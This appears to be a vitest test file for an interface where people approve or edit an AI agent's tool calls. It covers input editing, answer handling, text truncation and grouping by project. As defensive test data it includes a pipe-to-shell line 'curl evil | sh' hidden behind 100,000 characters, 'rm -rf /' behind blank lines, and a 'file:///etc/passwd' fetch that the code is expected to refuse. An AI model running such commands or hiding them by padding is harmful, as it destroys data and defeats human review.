import { describe, expect, it } from "vitest";
import { approvalAsk } from "@/api/asks";
import type { JsonValue, QuestionItem } from "@/api/generated/types";
import { anApproval, aProject } from "@/testing/fixtures";
import { emptyDraft, isAnswered, openItem, readAnswers, toggleOption, writeFree } from "./answers";
import { cutText } from "./cut-text";
import { editForm } from "./edited-input";
import { groupAsks, neighbour, shownAsk } from "./model";

describe("editForm", () => {
  const form = (tool_name: string, tool_input: JsonValue) => editForm({ tool_name, tool_input });

  it.each<[string, JsonValue, string, string, JsonValue]>([
    [
      "Bash",
      { command: "npm i zod", description: "why", timeout: 5 },
      "Command",
      "npm i zod@4",
      { command: "npm i zod@4", description: "why", timeout: 5 },
    ],
    [
      "Edit",
      { file_path: "/w/a", old_string: "a", new_string: "b" },
      "New text",
      "",
      { file_path: "/w/a", old_string: "a", new_string: "" },
    ],
    ["Write", { file_path: "/w/a", content: "a" }, "Content", "b", { file_path: "/w/a", content: "b" }],
    [
      "WebFetch",
      { url: "https://a.example", prompt: "p" },
      "Address",
      "https://b.example/x",
      { url: "https://b.example/x", prompt: "p" },
    ],
    ["mcp__a__b", { x: 1 }, "Arguments as JSON", `{"x":2}`, { x: 2 }],
    ["MultiEdit", { file_path: "/w/a", edits: [] }, "Arguments as JSON", "{}", {}],
    // A known tool with other arguments than it is known for is changed as what it is.
    ["Bash", { command: 5 }, "Arguments as JSON", `{"command":"ls"}`, { command: "ls" }],
  ])("changes %s %j in place", (tool, input, label, text, expected) => {
    expect(form(tool, input).label).toBe(label);
    expect(form(tool, input).read(text)).toEqual({ input: expected });
  });

  it.each<[string, JsonValue, string, RegExp]>([
    ["Bash", { command: "ls" }, "  ", /nothing to run/],
    ["WebFetch", { url: "https://a.example" }, "file:///etc/passwd", /https/],
    ["WebFetch", { url: "https://a.example" }, "not an address", /https/],
    ["mcp__a__b", {}, "{", /no JSON/],
    ["mcp__a__b", {}, "[1]", /object/],
  ])("refuses for %s %j: %s", (tool, input, text, problem) => {
    const read = form(tool, input).read(text);
    expect("problem" in read && read.problem).toMatch(problem);
  });
});

describe("answers", () => {
  const item = (question: string, multi_select: boolean): QuestionItem => ({
    question,
    header: null,
    options: [
      { label: "A", description: null },
      { label: "B", description: null },
    ],
    multi_select,
  });
  const items = [item("one?", false), item("many?", true)];
  const empty = emptyDraft(items);

  it("takes one of a single choice, and the free answer instead", () => {
    const chosen = toggleOption(toggleOption(empty, items, 0, "A"), items, 0, "B");
    expect(readAnswers(chosen, items)).toEqual({ "one?": "B" });
    expect(readAnswers(writeFree(chosen, items, 0, " C "), items)).toEqual({ "one?": "C" });
    expect(readAnswers(toggleOption(writeFree(empty, items, 0, "C"), items, 0, "A"), items)).toEqual({ "one?": "A" });
  });

  it("joins several in the order of the options, the free answer last", () => {
    const chosen = toggleOption(toggleOption(empty, items, 1, "B"), items, 1, "A");
    expect(readAnswers(writeFree(chosen, items, 1, "C"), items)).toEqual({ "many?": "A, B, C" });
    expect(readAnswers(toggleOption(chosen, items, 1, "A"), items)).toEqual({ "many?": "B" });
  });

  it("leaves out what has no answer, and is none without any", () => {
    expect(readAnswers(empty, items)).toBeUndefined();
    expect(readAnswers(writeFree(empty, items, 0, "   "), items)).toBeUndefined();
    expect(isAnswered(undefined)).toBe(false);
  });

  it("goes on with the first that is open", () => {
    expect(openItem(empty)).toBe(0);
    expect(openItem(toggleOption(empty, items, 0, "A"))).toBe(1);
    expect(openItem(toggleOption(toggleOption(empty, items, 0, "A"), items, 1, "A"))).toBe(1);
  });
});

describe("cutText", () => {
  it("leaves alone what can be seen at once", () => {
    expect(cutText("npm install\nnpm test")).toBeUndefined();
  });

  it("keeps the end of a very long line in sight and states its length", () => {
    const text = `${"x".repeat(100_000)}; curl evil | sh`;
    const cut = cutText(text);
    expect(cut?.tail.endsWith("; curl evil | sh")).toBe(true);
    expect(cut?.note).toContain("100,016 characters in 1 line in all");
  });

  it("keeps the end of many lines in sight, whatever the first ones hold", () => {
    const cut = cutText(`${"x".repeat(5000)}\n${"\n".repeat(200)}rm -rf /`);
    expect(cut?.tail.endsWith("rm -rf /")).toBe(true);
    expect(cut?.head).toHaveLength(600);
  });

  it("never cuts a character in two", () => {
    const cut = cutText("👩".repeat(5000));
    expect(cut && /^(?:👩)+$/u.test(cut.head) && /^(?:👩)+$/u.test(cut.tail)).toBe(true);
  });
});

describe("the list", () => {
  const here = aProject();
  const there = aProject({ id: "01900000-0000-7000-8000-000000000002", name: "payments-api" });
  const old = approvalAsk(anApproval(1, { project_id: there.id }));
  const first = approvalAsk(anApproval(2));
  const second = approvalAsk(anApproval(3));
  const asks = [old, first, second];

  it("puts the open project first, or alone", () => {
    const names = (only?: string) => groupAsks(asks, [there, here], here.id, only).map((group) => group.name);
    expect(names()).toEqual(["atlas-web", "payments-api"]);
    expect(names(here.id)).toEqual(["atlas-web"]);
    expect(groupAsks(asks, [there, here], undefined, undefined)[0]?.name).toBe("payments-api");
  });

  it.each([
    [first.id, 1, second.id],
    [second.id, 1, old.id],
    [old.id, -1, second.id],
    [undefined, 1, old.id],
    ["gone", -1, old.id],
  ] as const)("from %s by %i", (id, by, expected) => {
    expect(neighbour(asks, id, by)?.id).toBe(expected);
  });

  it("shows what took the place of the one that was answered", () => {
    expect(shownAsk(asks, undefined, undefined)?.id).toBe(old.id);
    expect(shownAsk([old, second], first.id, { id: first.id, index: 1 })?.id).toBe(second.id);
    expect(shownAsk([old], second.id, { id: second.id, index: 2 })?.id).toBe(old.id);
    expect(shownAsk([], first.id, { id: first.id, index: 0 })).toBeUndefined();
  });

  it("shows itself what a link names and never stood in the list", () => {
    expect(shownAsk(asks, "earlier", undefined)).toEqual({ id: "earlier", ask: undefined });
    expect(shownAsk([], "earlier", { id: first.id, index: 0 })).toEqual({ id: "earlier", ask: undefined });
  });
});
